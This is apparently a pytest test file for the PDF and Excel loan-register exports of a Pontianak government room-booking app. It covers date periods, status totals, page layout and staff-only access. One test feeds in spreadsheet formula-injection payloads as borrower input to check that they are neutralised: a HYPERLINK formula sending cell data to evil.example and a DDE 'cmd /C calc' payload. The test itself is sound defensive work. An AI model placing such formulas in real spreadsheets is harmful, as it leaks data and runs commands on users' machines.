"""Daftar Peminjaman (the loan register): the PDF and the Excel file as staff
download them from the Laporan page, read back with pypdf and openpyxl.

Loans of March 2031 are inserted straight into the tables (cheap, and on days
nothing else uses); one test goes through the SOP as people do.
"""
import io
import re
from datetime import date, datetime, timedelta, timezone

import openpyxl
import pytest
from helpers import login, submit_loan, take, user, visible_text
from pypdf import PdfReader

from app.models import Institution, LoanRequest, LoanSession, Room
from app.platform.extensions import db

URL = "/reports/loan-register/"
WIB = timezone(timedelta(hours=7))
MARCH = {"start": "2031-03-01", "end": "2031-03-31"}
KASI = {"position": "Kepala Seksi Pengembangan Kebijakan dan Aplikasi Informatika",
        "name": "Rina Kartika, S.Kom.", "rank": "Penata Tingkat I (III/d)",
        "nip": "198001012005012003"}
MAKER = {"position": "Admin Pontive Center", "name": "Budi Santoso", "rank": "",
         "nip": ""}


@pytest.fixture
def app(app):
    app.config["DOCUMENT_SIGNATORIES"] = {**app.config["DOCUMENT_SIGNATORIES"],
                                          "kasi": KASI, "adminpc": MAKER}
    return app


@pytest.fixture
def staff(login_as):
    return login_as("adminpc")


def wib(day, hour):
    """``hour`` o'clock WIB on ``day`` (a date), as UTC."""
    return datetime(day.year, day.month, day.day, hour, tzinfo=WIB).astimezone(timezone.utc)


def session(day, start, end):
    return wib(day, start), wib(day, end)


def institution(kind):
    name = {"opd": "Dinas Perhubungan Kota Pontianak",
            "sekolah": "SMA Negeri 1 Pontianak"}[kind]
    row = db.session.query(Institution).filter_by(name=name).one_or_none()
    if row is None:
        row = Institution(name=name, kind=kind)
        db.session.add(row)
        db.session.flush()
    return row


def add_loan(number, sessions, status="completed", kind="opd", proposed=(), title=None,
             **fields):
    """A loan stored as the workflow leaves it; ``sessions`` are (start, end),
    ``fields`` other columns of the request."""
    room = db.session.query(Room).order_by(Room.id).first()
    loan = LoanRequest(**{
        "registration_number": number, "borrower_id": user("peminjam1").id,
        "institution_id": institution(kind).id, "room_id": room.id,
        "letter_number": f"S-{number[-5:]}/UJI", "letter_date": date(2031, 1, 5),
        "subject": "Permohonan peminjaman", "title": title or f"Kegiatan {number[-5:]}",
        "participants": 25, "contact_name": "Kontak Uji",
        "contact_phone": "0812-0000-0000", "no_buffet_pledge": True, "status": status,
        "created_at": wib(date(2031, 1, 6), 10),
        "actual_participants": 21 if status == "completed" else None, **fields,
    })
    for times, is_proposed, target in ((sessions, False, loan.sessions),
                                       (proposed, True, loan.proposed_sessions)):
        target.extend(LoanSession(room_id=room.id, starts_at=start, ends_at=end,
                                  blocked_until=end + timedelta(minutes=30),
                                  occupying=False, proposed=is_proposed)
                      for start, end in times)
    db.session.add(loan)
    db.session.commit()
    return loan


def pdf_pages(response):
    """The text of each page, whitespace folded."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.get_data()))
    return [" ".join(page.extract_text().split()) for page in reader.pages]


HEADER_ROW = 4  # under the title, the period and an empty row


def workbook_rows(response):
    """The register's sheet and its table (the header row, then a row per loan)."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    return sheet, list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))


def numbers_in(text):
    return re.findall(r"PC/2031/\d{5}", text)


# ---------------------------------------------------------------- the period

@pytest.fixture
def march(app):
    """Loans on and around March 2031 (WIB), with the edge cases of the period."""
    return [
        # 06.00 WIB on 1 March is still 28 February in UTC: inside.
        add_loan("PC/2031/00001", [session(date(2031, 3, 1), 6, 8)]),
        add_loan("PC/2031/00002", [session(date(2031, 3, 31), 14, 16)], status="confirmed"),
        # A training from February into March belongs to March too.
        add_loan("PC/2031/00003", [session(date(2031, 2, 27), 8, 16),
                                   session(date(2031, 3, 3), 8, 16)], kind="sekolah"),
        add_loan("PC/2031/00004", [session(date(2031, 2, 28), 9, 11)]),
        # 06.00 WIB on 1 April is 31 March in UTC: outside.
        add_loan("PC/2031/00005", [session(date(2031, 4, 1), 6, 8)]),
        # Only the reschedule proposal falls in March: its schedule does not.
        add_loan("PC/2031/00006", [session(date(2031, 4, 7), 9, 11)],
                 status="reschedule_proposed", proposed=[session(date(2031, 3, 10), 9, 11)]),
    ]


def test_pdf_lists_exactly_the_loans_of_the_period(staff, march):
    response = staff.get(URL, query_string={**MARCH, "format": "pdf"})
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=daftar-peminjaman-2031-03.pdf")
    pages = pdf_pages(response)
    text = " ".join(pages)
    # In the order of the first session.
    assert numbers_in(text) == ["PC/2031/00003", "PC/2031/00001", "PC/2031/00002"]
    assert "DAFTAR PEMINJAMAN RUANG RAPAT PONTIVE CENTER" in text
    assert "Periode: 1 Maret 2031 s.d. 31 Maret 2031" in text
    # Every session on its own line, the Indonesian way, in WIB.
    assert ("Kamis, 27 Februari 2031, pukul 08.00–16.00 WIB "
            "Senin, 3 Maret 2031, pukul 08.00–16.00 WIB") in text
    assert "Sabtu, 1 Maret 2031, pukul 06.00–08.00 WIB" in text
    assert "Senin, 31 Maret 2031, pukul 14.00–16.00 WIB" in text
    assert "Dinas Perhubungan Kota Pontianak" in text and "SMA Negeri 1 Pontianak" in text
    # The request's date, its letter's number and date, planned and attended
    # participants, the contact.
    assert "Kegiatan 00003" in text and "S-00003/UJI 5 Jan 2031" in text
    assert "6 Jan 2031" in text
    assert "25 / 21" in text and "25 / –" in text  # completed, confirmed
    assert "Kontak Uji 0812-0000-0000" in text
    assert "Selesai" in text and "Dikonfirmasi" in text
    for header in ("No", "Nomor Registrasi", "Tanggal Permohonan",
                   "Nomor dan Tanggal Surat", "Instansi", "Kegiatan",
                   "Tanggal dan Waktu", "Peserta (rencana / hadir)", "Kontak", "Status",
                   "Keterangan", "Paraf"):
        assert header in pages[0], header
    # The totals per status, the letterhead, both signatures, the footer.
    assert "Rekapitulasi menurut status Status Permohonan Dikonfirmasi 1 Selesai 2 " \
        "Jumlah permohonan 3" in text
    assert "PEMERINTAH KOTA PONTIANAK DINAS KOMUNIKASI DAN INFORMATIKA" in pages[0]
    assert f"Mengetahui, {KASI['position']}," in text
    assert "Pembuat daftar, Admin Pontive Center," in text
    assert f"{KASI['name']} {KASI['rank']} NIP. 19800101 200501 2 003" in text
    # The maker's pangkat and NIP are not configured: dotted lines to fill in.
    assert "Budi Santoso ................................ NIP. ......" in text
    assert re.search(r"Dicetak \w+, \d+ \w+ \d{4} pukul \d\d\.\d\d WIB", text)
    assert pages[-1].endswith(f"Halaman {len(pages)} dari {len(pages)}")


def test_remarks_and_totals_per_status(staff, app):
    """Keterangan gives the reason of a rejection or cancellation and the time
    the Kasi proposed; the totals count each status apart, so rejected and
    cancelled requests are not counted as loans."""
    day = date(2031, 3, 10)
    add_loan("PC/2031/00011", [session(day, 8, 10)], status="rejected",
             rejection_reason="Ruang dipakai kegiatan Wali Kota.")
    add_loan("PC/2031/00012", [session(day, 10, 12)], status="cancelled",
             cancellation_reason="Acara ditunda panitia.")
    add_loan("PC/2031/00013", [session(day, 13, 15)], status="reschedule_proposed",
             proposed=[session(date(2031, 3, 12), 9, 11)])
    add_loan("PC/2031/00014", [session(day, 15, 16)])
    text = " ".join(pdf_pages(staff.get(URL, query_string={**MARCH, "format": "pdf"})))
    assert "Ditolak: Ruang dipakai kegiatan Wali Kota." in text
    assert "Dibatalkan: Acara ditunda panitia." in text
    assert "Usulan waktu: Rabu, 12 Maret 2031, pukul 09.00–11.00 WIB" in text
    assert ("Status Permohonan Usulan Jadwal Ulang 1 Selesai 1 Ditolak 1 Dibatalkan 1 "
            "Jumlah permohonan 4") in text
    assert "Jumlah peminjaman" not in text

    sheet, rows = workbook_rows(staff.get(URL, query_string={**MARCH, "format": "xlsx"}))
    remarks = {row[1]: row[-1] for row in rows[1:]}
    assert remarks == {
        "PC/2031/00011": "Ditolak: Ruang dipakai kegiatan Wali Kota.",
        "PC/2031/00012": "Dibatalkan: Acara ditunda panitia.",
        "PC/2031/00013": "Usulan waktu: Rabu, 12 Maret 2031, pukul 09.00–11.00 WIB",
        "PC/2031/00014": None,
    }
    summary = list(sheet.parent.worksheets[1].iter_rows(values_only=True))
    assert summary == [("Status", "Permohonan"), ("Usulan Jadwal Ulang", 1),
                       ("Selesai", 1), ("Ditolak", 1), ("Dibatalkan", 1),
                       ("Jumlah permohonan", 4)]


def test_excel_has_the_same_rows(staff, march):
    response = staff.get(URL, query_string={**MARCH, "format": "xlsx"})
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=daftar-peminjaman-2031-03.xlsx")
    sheet, rows = workbook_rows(response)
    # The title and the period above the table.
    assert sheet["A1"].value == "DAFTAR PEMINJAMAN RUANG RAPAT PONTIVE CENTER"
    assert sheet["A2"].value == "Periode: 1 Maret 2031 s.d. 31 Maret 2031"
    assert sheet.freeze_panes == "A5"
    assert rows[0] == ("No", "Nomor Registrasi", "Tanggal Permohonan", "Nomor Surat",
                       "Tanggal surat", "Instansi", "Jenis instansi", "Kegiatan",
                       "Mulai sesi pertama", "Selesai sesi terakhir", "Jumlah sesi",
                       "Jadwal", "Peserta rencana", "Peserta hadir", "Narahubung",
                       "Telepon narahubung", "Status", "Keterangan")
    assert [row[1] for row in rows[1:]] == [
        "PC/2031/00003", "PC/2031/00001", "PC/2031/00002"]
    spanning = rows[1]
    # Real dates and date-times, in WIB.
    assert spanning[2] == datetime(2031, 1, 6, 10, 0)
    assert spanning[3:5] == ("S-00003/UJI", datetime(2031, 1, 5))
    assert spanning[8] == datetime(2031, 2, 27, 8, 0)
    assert spanning[9] == datetime(2031, 3, 3, 16, 0)
    assert spanning[10] == 2
    assert spanning[11].splitlines() == ["Kamis, 27 Februari 2031, pukul 08.00–16.00 WIB",
                                         "Senin, 3 Maret 2031, pukul 08.00–16.00 WIB"]
    assert spanning[5:8] == ("SMA Negeri 1 Pontianak", "Sekolah", "Kegiatan 00003")
    assert spanning[12:] == (25, 21, "Kontak Uji", "0812-0000-0000", "Selesai", None)
    assert rows[2][8] == datetime(2031, 3, 1, 6, 0)
    assert rows[3][13] is None  # confirmed: nobody has attended yet
    assert sheet.column_dimensions["L"].width > sheet.column_dimensions["A"].width


def test_excel_prints_landscape_with_an_autofilter(staff, march):
    sheet, rows = workbook_rows(staff.get(URL, query_string={**MARCH, "format": "xlsx"}))
    assert sheet.auto_filter.ref == f"A4:R{4 + len(rows) - 1}"
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)


def test_excel_writes_typed_text_never_as_a_formula(staff, app):
    """OWASP's CSV injection: whatever a borrower typed is a text cell, and
    one that starts like a formula gets a leading apostrophe."""
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
        "letter_number": "=1+2",
        "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "contact_phone": "+62 812 1111",
        "cancellation_reason": "-2+3",
    }
    loan = add_loan("PC/2031/00020", [session(date(2031, 3, 12), 9, 11)],
                    status="cancelled", **hostile)
    loan.institution.name = "\tInstansi Jahat"
    db.session.commit()
    sheet, rows = workbook_rows(staff.get(URL, query_string={**MARCH, "format": "xlsx"}))
    [row] = [row for row in sheet.iter_rows(min_row=HEADER_ROW + 1)
             if row[1].value == "PC/2031/00020"]
    cells = {cell.column_letter: cell for cell in row}
    expected = {
        "D": "'=1+2",
        "F": "'\tInstansi Jahat",
        "H": '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
        "O": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "P": "'+62 812 1111",
        "R": "Dibatalkan: -2+3",  # "-" does not start it: nothing to prefix
    }
    for column, value in expected.items():
        assert cells[column].data_type == "s", column
        assert cells[column].value == value, column
    # Every text cell of the sheet is text, none a formula.
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_filters_by_status_and_kind_of_institution(staff, march):
    by_status = " ".join(pdf_pages(staff.get(
        URL, query_string={**MARCH, "status": "confirmed", "format": "pdf"})))
    assert numbers_in(by_status) == ["PC/2031/00002"]
    assert "Status: Dikonfirmasi" in by_status
    assert "Jumlah permohonan 1" in by_status

    by_kind = " ".join(pdf_pages(staff.get(
        URL, query_string={**MARCH, "kind": "sekolah", "format": "pdf"})))
    assert numbers_in(by_kind) == ["PC/2031/00003"]
    assert "Jenis instansi: Sekolah" in by_kind

    _sheet, rows = workbook_rows(staff.get(
        URL, query_string={**MARCH, "kind": "opd", "status": "completed", "format": "xlsx"}))
    assert [row[1] for row in rows[1:]] == ["PC/2031/00001"]


def test_a_loan_through_the_sop_is_listed_with_its_status(app, staff):
    loan = submit_loan("peminjam2", title="Seminar Register Uji", days_ahead=40)
    take(loan, "dispose")
    take(loan, "confirm")
    db.session.commit()
    day = loan.sessions[0].starts_at.astimezone(WIB).date()
    text = " ".join(pdf_pages(staff.get(URL, query_string={
        "start": day.isoformat(), "end": day.isoformat(), "format": "pdf"})))
    assert loan.registration_number in text
    assert "Seminar Register Uji" in text and "Dikonfirmasi" in text
    assert "Universitas Tanjungpura" in text


def test_an_empty_period_is_an_honest_document(staff):
    pages = pdf_pages(staff.get(URL, query_string={
        "start": "2032-06-01", "end": "2032-06-30", "format": "pdf"}))
    assert len(pages) == 1
    assert "Periode: 1 Juni 2032 s.d. 30 Juni 2032" in pages[0]
    assert "Tidak ada peminjaman dalam periode ini." in pages[0]
    assert "Jumlah permohonan 0" in pages[0]
    assert "Nomor Registrasi" not in pages[0]
    assert "NIP. 19800101 200501 2 003" in pages[0] and "Halaman 1 dari 1" in pages[0]
    _sheet, rows = workbook_rows(staff.get(URL, query_string={
        "start": "2032-06-01", "end": "2032-06-30", "format": "xlsx"}))
    assert len(rows) == 1  # the header only


# ---------------------------------------------------------------- a long register

def test_a_long_register_repeats_its_header_and_never_splits_a_row(staff, app):
    numbers = []
    for n in range(60):
        day = date(2031, 3, 3) + timedelta(days=n % 26)
        sessions = [session(day, 8 + 2 * (n % 4), 9 + 2 * (n % 4))]
        if n % 7 == 0:  # some trainings of three days: rows of three lines
            sessions += [(start + timedelta(days=k), end + timedelta(days=k))
                         for start, end in sessions[:1] for k in (1, 2)]
        numbers.append(add_loan(f"PC/2031/{100 + n:05d}", sessions,
                                title=f"Rapat panjang nomor {n}").registration_number)
    pages = pdf_pages(staff.get(URL, query_string={
        "start": "2031-03-01", "end": "2031-03-31", "format": "pdf"}))
    total = len(pages)
    assert total >= 3
    for index, page in enumerate(pages, 1):
        assert f"Halaman {index} dari {total}" in page
    for page in pages[1:]:
        if numbers_in(page):  # a page of rows starts with the table's header
            assert ("No Nomor Registrasi Tanggal Permohonan Nomor dan Tanggal Surat "
                    "Instansi Kegiatan Tanggal dan Waktu Peserta") in page
    assert "PEMERINTAH KOTA PONTIANAK" not in pages[1]  # letterhead on page 1 only
    text = " ".join(pages)
    assert sorted(numbers_in(text)) == sorted(numbers)
    assert "Jumlah permohonan 60" in text
    # A row is whole on its page: its number, activity and every session.
    for n, number in enumerate(numbers):
        page = next(p for p in pages if number in p)
        assert f"Rapat panjang nomor {n}" in page
        if n % 7 == 0:
            sessions = page.split(f"Rapat panjang nomor {n} ", 1)[1].split("25 /", 1)[0]
            assert len(re.findall(r"\d+ Maret 2031, pukul", sessions)) == 3
    assert "Mengetahui," in pages[-1] and KASI["name"] in pages[-1]


# ---------------------------------------------------------------- the page

def test_the_page_defaults_to_the_current_month(staff):
    from app.platform.timeutil import to_local, utcnow

    today = to_local(utcnow()).date()
    response = staff.get(URL)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert f'value="{today.replace(day=1).isoformat()}"' in html
    text = visible_text(response)
    for words in ("Daftar Peminjaman", "Dari", "Sampai", "Semua status",
                  "Jenis instansi", "Semua jenis", "Unduh PDF", "Unduh Excel"):
        assert words in text


def test_the_reports_menu_is_for_staff(login_as):
    assert 'href="/reports/loan-register/"' in login_as("kasi").get("/").get_data(
        as_text=True)
    assert 'href="/reports/loan-register/"' not in login_as("peminjam1").get("/").get_data(
        as_text=True)


@pytest.mark.parametrize("username", ["admin", "kabid", "kasi", "adminpc"])
def test_every_staff_role_downloads_it(login_as, username):
    response = login_as(username).get(URL, query_string={
        "start": "2031-01-01", "end": "2031-12-31", "format": "pdf"})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith("daftar-peminjaman-2031.pdf")


@pytest.mark.parametrize("query", [{}, {**MARCH, "format": "pdf"},
                                   {**MARCH, "format": "xlsx"}])
def test_a_borrower_is_refused(login_as, march, query):
    response = login_as("peminjam1").get(URL, query_string=query)
    assert response.status_code == 403
    assert b"PC/2031" not in response.get_data()


def test_anonymous_is_sent_to_login(app):
    response = app.test_client().get(URL, query_string={**MARCH, "format": "pdf"})
    assert response.status_code == 302 and "/login/" in response.headers["Location"]


@pytest.mark.parametrize("query,message", [
    ({"start": "2031-03-31", "end": "2031-03-01"},
     "Tanggal akhir lebih awal daripada tanggal mulai."),
    ({"start": "2031-02-30", "end": "2031-03-31"}, "2031-02-30 bukan tanggal yang valid"),
    ({"start": "kemarin"}, "kemarin bukan tanggal yang valid"),
    ({"start": "2011-01-01", "end": "2031-01-01"}, "Pilih periode paling lama 5 tahun."),
    ({"start": "1800-01-01", "end": "1800-01-02"}, "Pilih tanggal antara tahun 2000"),
    ({**MARCH, "status": "hilang"}, "Pilih status dari daftar."),
    ({**MARCH, "kind": "partai"}, "Pilih jenis instansi dari daftar."),
    ({**MARCH, "format": "docx"}, "Pilih PDF atau Excel."),
])
def test_bad_parameters_get_an_indonesian_message(staff, query, message):
    # Asking for a file, or only for the page: the page with the message.
    for file_format in ([query["format"]] if "format" in query else ["pdf", None]):
        response = staff.get(URL, query_string={**query, "format": file_format})
        assert response.status_code == 400
        assert response.mimetype == "text/html"
        assert message in visible_text(response)


def test_the_document_is_indonesian_for_an_english_user(app, march):
    client = login(app.test_client(), "kasi")
    client.get("/lang/en")
    assert "Loan register" in visible_text(client.get(URL))
    text = " ".join(pdf_pages(client.get(URL, query_string={**MARCH, "format": "pdf"})))
    assert "DAFTAR PEMINJAMAN" in text and "Halaman 1 dari" in text
    assert "Sabtu, 1 Maret 2031, pukul 06.00–08.00 WIB" in text
    _sheet, rows = workbook_rows(client.get(URL, query_string={**MARCH, "format": "xlsx"}))
    assert rows[0][1] == "Nomor Registrasi" and rows[1][-2] == "Selesai"
